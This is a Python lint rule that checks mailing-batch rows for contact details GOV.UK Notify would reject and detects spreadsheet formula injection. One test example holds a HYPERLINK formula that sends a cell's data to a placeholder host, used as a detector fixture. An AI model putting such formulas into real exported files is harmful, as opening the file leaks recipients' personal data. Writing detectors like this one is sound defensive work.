"""contact-validity: contact details GOV.UK Notify would reject; cells a spreadsheet runs."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping
from typing import Any, ClassVar

from policylint.engine.rule import ADDRESS_ROLES, Case, Example, Item, Need, Rule, RunContext
from policylint.model import Personal, PersonalKind, Severity, Violation
from policylint.normalise.email import check_email
from policylint.normalise.phone import parse_uk_phone
from policylint.normalise.postcode import find_postcodes, normalise_postcode

# Characters that make Excel, LibreOffice or Google Sheets treat a cell as a
# formula (OWASP "CSV injection"): =, +, -, @, and a leading tab or carriage return.
FORMULA_STARTS = frozenset("=+-@\t\r")
# A cell start (after a "\x00" the cells are joined with), spaces, then a formula start:
# one search of a whole row finds whether any cell may be a formula.
_MAY_EXECUTE_RE = re.compile("\x00 *[=+\\-@\t\r]")
# GOV.UK Notify rejects an address line starting with any of these.
NOTIFY_BAD_LINE_STARTS = frozenset('[\\/()@]<>",=~')

_PLAIN_NUMBER_RE = re.compile(r"[+-]?[£$€]?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?%?")
_DASHES_ONLY_RE = re.compile(r"-+")
# A last line that was meant to be a postcode ("LS99 9", "LS1", "SW1A 1A").
_POSTCODE_LIKE_RE = re.compile(r"[A-Za-z]{1,2}[0-9][A-Za-z0-9]?(?:\s*[0-9][A-Za-z0-9]{0,3})?")
_NFA_RE = re.compile(r"^(?:n\W*f\W*a|no\s+fixed\s+(?:abode|address))\b", re.IGNORECASE)

MIN_LINES = 3
MAX_LINES = 7

# Last lines that mean "this is a UK address": the postcode is the line before.
UK_NAMES = frozenset({
    "united kingdom", "uk", "u k", "great britain", "gb", "britain", "england",
    "scotland", "wales", "cymru", "northern ireland", "jersey", "guernsey",
    "isle of man", "channel islands",
})

COUNTRIES = frozenset(name.strip().lower() for name in """
Afghanistan; Albania; Algeria; Andorra; Angola; Antigua and Barbuda; Argentina; Armenia;
Australia; Austria; Azerbaijan; Bahamas; Bahrain; Bangladesh; Barbados; Belarus; Belgium;
Belize; Benin; Bhutan; Bolivia; Bosnia and Herzegovina; Botswana; Brazil; Brunei; Bulgaria;
Burkina Faso; Burundi; Cambodia; Cameroon; Canada; Cape Verde; Central African Republic;
Chad; Chile; China; Colombia; Comoros; Congo; Democratic Republic of the Congo; Costa Rica;
Croatia; Cuba; Cyprus; Czechia; Czech Republic; Denmark; Djibouti; Dominica;
Dominican Republic; East Timor; Ecuador; Egypt; El Salvador; Equatorial Guinea; Eritrea;
Estonia; Eswatini; Ethiopia; Fiji; Finland; France; Gabon; Gambia; Georgia; Germany; Ghana;
Gibraltar; Greece; Grenada; Guatemala; Guinea; Guinea-Bissau; Guyana; Haiti; Honduras;
Hong Kong; Hungary; Iceland; India; Indonesia; Iran; Iraq; Ireland; Republic of Ireland;
Eire; Israel; Italy; Ivory Coast; Jamaica; Japan; Jordan; Kazakhstan; Kenya; Kiribati;
Kosovo; Kuwait; Kyrgyzstan; Laos; Latvia; Lebanon; Lesotho; Liberia; Libya; Liechtenstein;
Lithuania; Luxembourg; Macao; Madagascar; Malawi; Malaysia; Maldives; Mali; Malta;
Marshall Islands; Mauritania; Mauritius; Mexico; Micronesia; Moldova; Monaco; Mongolia;
Montenegro; Morocco; Mozambique; Myanmar; Namibia; Nauru; Nepal; Netherlands; New Zealand;
Nicaragua; Niger; Nigeria; North Korea; North Macedonia; Norway; Oman; Pakistan; Palau;
Palestine; Panama; Papua New Guinea; Paraguay; Peru; Philippines; Poland; Portugal;
Puerto Rico; Qatar; Romania; Russia; Rwanda; Saint Kitts and Nevis; Saint Lucia;
Saint Vincent and the Grenadines; Samoa; San Marino; Sao Tome and Principe; Saudi Arabia;
Senegal; Serbia; Seychelles; Sierra Leone; Singapore; Slovakia; Slovenia; Solomon Islands;
Somalia; South Africa; South Korea; South Sudan; Spain; Sri Lanka; Sudan; Suriname; Sweden;
Switzerland; Syria; Taiwan; Tajikistan; Tanzania; Thailand; Togo; Tonga;
Trinidad and Tobago; Tunisia; Turkey; Turkiye; Turkmenistan; Tuvalu; Uganda; Ukraine;
United Arab Emirates; UAE; United States; United States of America; USA; Uruguay;
Uzbekistan; Vanuatu; Vatican City; Venezuela; Vietnam; Yemen; Zambia; Zimbabwe;
Falkland Islands; Bermuda; Cayman Islands; British Virgin Islands; Anguilla; Montserrat;
Turks and Caicos Islands; Saint Helena; Greenland; Faroe Islands; Aland Islands
""".replace("\n", " ").split(";"))

_DISPLAY_CHAR = {"\t": "a tab", "\r": "a carriage return"}


_NOT_LETTER_OR_SPACE_RE = re.compile(r"[^a-z ]")


def _country_key(line: str) -> str:
    return " ".join(_NOT_LETTER_OR_SPACE_RE.sub(" ", line.lower().replace(".", "")).split())


def _executes(raw: str) -> str | None:
    """The character that makes a spreadsheet run this cell, or None."""
    text = raw.lstrip(" ")
    if not text or text[0] not in FORMULA_STARTS:
        return None
    stripped = text.strip()
    if _PLAIN_NUMBER_RE.fullmatch(stripped) or _DASHES_ONLY_RE.fullmatch(stripped):
        return None
    return text[0]


class ContactValidity(Rule):
    """Contact details that cannot be delivered to, and cells a spreadsheet would run.

    Checks every row the way GOV.UK Notify checks a recipient before it
    accepts a mailing, so a batch is corrected before it is sent, not after
    Notify (or the print house) bounces half of it:

    * **email**: the address must be valid (checked offline with
      ``email-validator``: one ``@``, no spaces, no consecutive or trailing
      dots, a top-level domain, no quoted or non-ASCII local part). An email
      item with no address is ``missing-email``; an empty email on a letter is
      fine.
    * **phone**: a text (``sms``) needs a valid UK mobile (``not-a-mobile`` for
      a landline); a ``voicemail`` needs a valid UK number. Numbers in the
      ranges Ofcom reserves for drama (``07700 900xxx``, ``020 7946 0xxx``...)
      are test data, never a real person's phone: ``invalid-phone``. A number
      outside the UK is a warning (``international-phone``): check it is still
      the person's.
    * **letters**: 3 to 7 address lines (a separate ``postcode`` column counts
      as the last line), the last a valid UK postcode or a country name; no
      "NFA" / "no fixed abode" line (the letter has nowhere to go); no line
      starting with a character Notify rejects (``[ \\ / ( ) @ ] < > " , = ~``).
    * **any cell** starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
      return is run as a formula when the batch is opened in a spreadsheet
      (``formula-injection``): a formula can send the row to a web address or
      change what is printed. Plain numbers (``-12.50``) and phone numbers in
      the phone column (``+44 7723 456789``) are not formulas.

    **Anti-pattern**: a text to a landline, a voicemail to a drama number, and a
    letter addressed to "NFA"::

        recipient_id,name,phone,channel,address_line_1,address_line_2,postcode
        P-1001,Aisha Khan,0113 242 1234,sms,,,
        P-1002,Gareth Jones,07700 900461,voicemail,,,
        P-1003,Daniel Evans,,letter,Mr D Evans,NFA,

    **Best practice**: a UK mobile for texts, a real number for voicemail, a
    full postal address with the postcode last::

        recipient_id,name,phone,channel,address_line_1,address_line_2,address_line_3,postcode
        P-1001,Aisha Khan,+44 7723 456 789,sms,,,,
        P-1002,Gareth Jones,029 2087 2087,voicemail,,,,
        P-1003,Daniel Evans,,letter,Mr D Evans,14 Station Road,Cardiff,CF10 1EP

    An email or phone the item's channel does not use (the email column of a
    letter) is not checked unless ``check_unused_contacts`` is true (then its
    findings are warnings): it cannot misdirect this item, and flagging it
    would bury the findings that can.

    Options: ``allow_international`` (default true) makes overseas phones and
    letters a warning rather than an error; ``countries`` adds country names a
    letter's last line may hold; ``allow_drama_numbers`` accepts Ofcom's drama
    ranges (test and training data only).
    """

    name: ClassVar[str] = "contact-validity"
    summary: ClassVar[str] = (
        "Email addresses, phone numbers and postal addresses GOV.UK Notify would reject,"
        " and cells a spreadsheet would run as formulas."
    )
    default_severity: ClassVar[Severity] = Severity.ERROR
    options_schema: ClassVar[Mapping[str, Any]] = {
        "type": "object",
        "properties": {
            "region": {"type": "string", "default": "GB"},
            "allow_international": {"type": "boolean", "default": True},
            "countries": {"type": "array", "items": {"type": "string"}},
            "check_unused_contacts": {
                "type": "boolean", "default": False,
                "description": "Also check an email or phone the item's channel does not use "
                               "(a letter's email column): findings are warnings.",
            },
            "allow_drama_numbers": {
                "type": "boolean", "default": False,
                "description": "Accept Ofcom's drama-range numbers: for test and training "
                               "data only, never for a live mailing.",
            },
        },
        "additionalProperties": False,
    }
    needs: ClassVar[frozenset[Need]] = frozenset({"row"})
    row_independent: ClassVar[bool] = True
    examples: ClassVar[tuple[Example, ...]] = (
        Example(
            title="Texts need a UK mobile; drama numbers are not real phones",
            bad=Case(
                rows=[
                    {"recipient_id": "P-1001", "name": "Aisha Khan",
                     "phone": "0113 242 1234", "channel": "sms"},
                    {"recipient_id": "P-1002", "name": "Gareth Jones",
                     "phone": "07700 900461", "channel": "voicemail"},
                ],
                expect=["not-a-mobile", "invalid-phone"],
            ),
            good=Case(
                rows=[
                    {"recipient_id": "P-1001", "name": "Aisha Khan",
                     "phone": "+44 7723 456 789", "channel": "sms"},
                    {"recipient_id": "P-1002", "name": "Gareth Jones",
                     "phone": "029 2087 2087", "channel": "voicemail"},
                ],
            ),
        ),
        Example(
            title="A letter needs 3 to 7 address lines ending in a postcode",
            bad=Case(
                rows=[
                    {"recipient_id": "P-1003", "name": "Daniel Evans", "channel": "letter",
                     "address_line_1": "Mr D Evans", "address_line_2": "NFA", "postcode": ""},
                ],
                expect=["address-too-short", "no-fixed-abode", "missing-postcode"],
            ),
            good=Case(
                rows=[
                    {"recipient_id": "P-1003", "name": "Daniel Evans", "channel": "letter",
                     "address_line_1": "Mr D Evans", "address_line_2": "Flat 2, 14 Station Rd",
                     "address_line_3": "Cardiff", "postcode": "cf10 1ep", "email": ""},
                ],
            ),
        ),
        Example(
            title="Email addresses Notify would reject",
            bad=Case(
                rows=[
                    {"recipient_id": "P-1004", "name": "Jane Smith", "channel": "email",
                     "email": "jane.smith@leeds..gov.uk"},
                    {"recipient_id": "P-1005", "name": "Tom Wright", "channel": "email",
                     "email": ""},
                ],
                expect=["invalid-email", "missing-email"],
            ),
            good=Case(
                rows=[
                    {"recipient_id": "P-1004", "name": "Jane Smith", "channel": "email",
                     "email": "Jane.Smith@leeds.gov.uk"},
                    {"recipient_id": "P-1005", "name": "Tom Wright", "channel": "email",
                     "email": "tom.o'wright@example.co.uk"},
                ],
            ),
        ),
        Example(
            title="Cells a spreadsheet would run as a formula",
            bad=Case(
                rows=[
                    {"recipient_id": "P-1006", "channel": "letter",
                     "name": '=HYPERLINK("http://example.com/?d="&A2,"Click")',
                     "address_line_1": "Ms B Hughes", "address_line_2": "3 Mill Lane",
                     "address_line_3": "Swansea", "postcode": "SA1 1AA"},
                ],
                expect=["formula-injection"],
            ),
            good=Case(
                rows=[
                    {"recipient_id": "P-1006", "channel": "letter", "name": "Bethan Hughes",
                     "address_line_1": "Ms B Hughes", "address_line_2": "3 Mill Lane",
                     "address_line_3": "Swansea", "postcode": "SA1 1AA",
                     "phone": "+44 7723 456789", "balance": "-12.50"},
                ],
            ),
        ),
    )

    def __init__(self, options: Mapping[str, Any], context: RunContext) -> None:
        super().__init__(options, context)
        extra = {_country_key(c) for c in self.options.get("countries") or ()}
        self._countries = COUNTRIES | extra
        self._region: str = str(self.options.get("region") or "GB")
        self._allow_international = bool(self.options.get("allow_international", True))
        self._allow_drama = bool(self.options.get("allow_drama_numbers", False))
        self._check_unused = bool(self.options.get("check_unused_contacts", False))

    # --- entry point -------------------------------------------------------------

    def check_item(self, item: Item) -> Iterable[Violation]:
        out: list[Violation] = []
        address_cells = self._address_cells(item)
        checks_address = item.channel == "letter" or (
            item.channel is None and bool(address_cells)
        )
        out.extend(self._check_email(item))
        out.extend(self._check_phone(item))
        if checks_address:
            out.extend(self._check_address(item, address_cells))
        skip = {header for header, _ in address_cells} if checks_address else set()
        out.extend(self._check_formulas(item, skip))
        return out

    # --- email -------------------------------------------------------------------

    def _check_email(self, item: Item) -> Iterator[Violation]:
        header = item.fields.header("email")
        value = item.role("email")
        delivers = item.channel == "email"
        if not (delivers or item.channel is None or self._check_unused):
            return
        if not value:
            if delivers:
                yield Violation(
                    code="missing-email",
                    message="This email has no email address to go to.",
                    column=header,
                )
            return
        check = check_email(value)
        if not check.valid:
            yield Violation(
                code="invalid-email",
                message=(
                    "Email address {email} is not valid ({reason}); GOV.UK Notify would"
                    " reject it. Correct it in the case record."
                ),
                values={"email": Personal(PersonalKind.EMAIL, value)},
                facts={"reason": check.reason.rstrip(".")},
                column=header,
                severity=None if delivers or item.channel is None else Severity.WARNING,
            )

    # --- phone -------------------------------------------------------------------

    def _check_phone(self, item: Item) -> Iterator[Violation]:
        header = item.fields.header("phone")
        value = item.role("phone")
        channel = item.channel
        delivers = channel in ("sms", "voicemail")
        if not (delivers or channel is None or self._check_unused):
            return
        if not value:
            if delivers:
                yield Violation(
                    code="missing-phone",
                    message="This {channel} has no phone number to go to.",
                    facts={"channel": "text message" if channel == "sms" else str(channel)},
                    column=header,
                )
            return
        check = parse_uk_phone(value, self._region)
        phone = {"phone": Personal(PersonalKind.PHONE, value)}
        not_used = None if delivers or channel is None else Severity.WARNING
        if not check.valid and not (check.is_drama and self._allow_drama):
            yield Violation(
                code="invalid-phone",
                message="Phone number {phone} is not a real phone number: {reason}.",
                values=phone,
                facts={"reason": check.reason},
                column=header,
                severity=not_used,
            )
            return
        if not check.is_uk:
            yield Violation(
                code="international-phone",
                message=(
                    "Phone number {phone} is outside the UK; check it is still the"
                    " person's number before sending."
                ),
                values=phone,
                column=header,
                severity=Severity.WARNING if self._allow_international else not_used,
            )
            return
        if channel == "sms" and not check.is_mobile:
            yield Violation(
                code="not-a-mobile",
                message=(
                    "Phone number {phone} is not a UK mobile, so a text message cannot reach it."
                ),
                values=phone,
                column=header,
            )

    # --- postal address ----------------------------------------------------------

    @staticmethod
    def _address_cells(item: Item) -> list[tuple[str, str]]:
        """(header, line) for each non-empty address line, postcode column last
        (unless the last line already holds it), as GOV.UK Notify reads them."""
        cells: list[tuple[str, str]] = []
        for role in ADDRESS_ROLES:
            header = item.fields.header(role)
            if header is None:
                continue
            line = item.role(role).rstrip(" ,")
            if line:
                cells.append((header, line))
        header = item.fields.header("postcode")
        postcode = item.role("postcode").rstrip(" ,")
        if header is not None and postcode and (
            not cells
            or cells[-1][1].replace(" ", "").upper() != postcode.replace(" ", "").upper()
        ):
            cells.append((header, postcode))
        return cells

    def _check_address(self, item: Item, cells: list[tuple[str, str]]) -> Iterator[Violation]:
        count = len(cells)
        if count < MIN_LINES:
            yield Violation(
                code="address-too-short",
                message=(
                    "The address has no lines; a letter needs at least 3."
                    if count == 0 else
                    "The address has only {count} line(s); a letter needs at least 3"
                    " (for example house and street, town, postcode)."
                ),
                facts={"count": count},
            )
        elif count > MAX_LINES:
            yield Violation(
                code="address-too-long",
                message="The address has {count} lines; a letter can print at most 7.",
                facts={"count": count},
            )
        for header, line in cells:
            if _NFA_RE.match(line.strip()):
                yield Violation(
                    code="no-fixed-abode",
                    message=(
                        "Address line in column {column} says the person has no fixed abode;"
                        " a letter has nowhere to go. Contact them another way."
                    ),
                    facts={"column": item.row.headers.get(header, header)},
                    column=header,
                )
            raw = item.row.values.get(header, line)
            char = _executes(raw)
            if char is not None:
                yield self._formula(item, header, char, code="formula-in-address")
            elif line[0] in NOTIFY_BAD_LINE_STARTS:
                yield Violation(
                    code="address-invalid-character",
                    message=(
                        "Address line in column {column} starts with {char}, which GOV.UK"
                        " Notify does not accept at the start of an address line."
                    ),
                    facts={"column": item.row.headers.get(header, header),
                           "char": repr(line[0])},
                    column=header,
                )
        if cells:
            yield from self._check_last_line(item, cells)

    def _check_last_line(self, item: Item, cells: list[tuple[str, str]]) -> Iterator[Violation]:
        header, last = cells[-1]
        key = _country_key(last)
        if key in UK_NAMES and len(cells) > 1:
            header, last = cells[-2]
        elif key in self._countries:
            if not self._allow_international:
                yield Violation(
                    code="international-address",
                    message=(
                        "The address is outside the UK ({country}) and this policy does not"
                        " allow international letters."
                    ),
                    facts={"country": last},
                    column=header,
                )
            return
        if normalise_postcode(last) is not None:
            return
        has_postcode_column = bool(item.role("postcode"))
        elsewhere = any(find_postcodes(line) for _, line in cells[:-1])
        postcode_like = bool(_POSTCODE_LIKE_RE.fullmatch(last.strip()))
        if has_postcode_column or postcode_like:
            yield Violation(
                code="invalid-postcode",
                message=(
                    "The last address line {postcode} is not a valid UK postcode;"
                    " Royal Mail cannot sort the letter."
                ),
                values={"postcode": Personal(PersonalKind.POSTCODE, last)},
                column=header,
            )
        elif elsewhere:
            yield Violation(
                code="invalid-postcode",
                message=(
                    "The postcode is not on the last address line; GOV.UK Notify and"
                    " Royal Mail need it there (or in the postcode column)."
                ),
                column=header,
            )
        else:
            yield Violation(
                code="missing-postcode",
                message=(
                    "The address has no postcode; the last line must be a UK postcode"
                    " or a country."
                ),
                column=header,
            )

    # --- formula injection -------------------------------------------------------

    def _formula(self, item: Item, header: str, char: str, code: str) -> Violation:
        return Violation(
            code=code,
            message=(
                "Column {column} starts with {char}: a spreadsheet opening this batch would"
                " run it as a formula. Remove the character or put an apostrophe before it."
            ),
            facts={
                "column": item.row.headers.get(header, header),
                "char": _DISPLAY_CHAR.get(char, f"'{char}'"),
            },
            column=header,
            severity=Severity.ERROR,
        )

    def _check_formulas(self, item: Item, skip: set[str]) -> Iterator[Violation]:
        values = item.row.values
        if _MAY_EXECUTE_RE.search("\x00" + "\x00".join(values.values())) is None:
            return  # no cell starts with a formula character: the usual row
        phone_header = item.fields.header("phone")
        for header, raw in values.items():
            if header in skip or not raw:
                continue
            char = _executes(raw)
            if char is None:
                continue
            if header == phone_header and parse_uk_phone(raw, self._region).e164:
                continue
            yield self._formula(item, header, char, code="formula-injection")
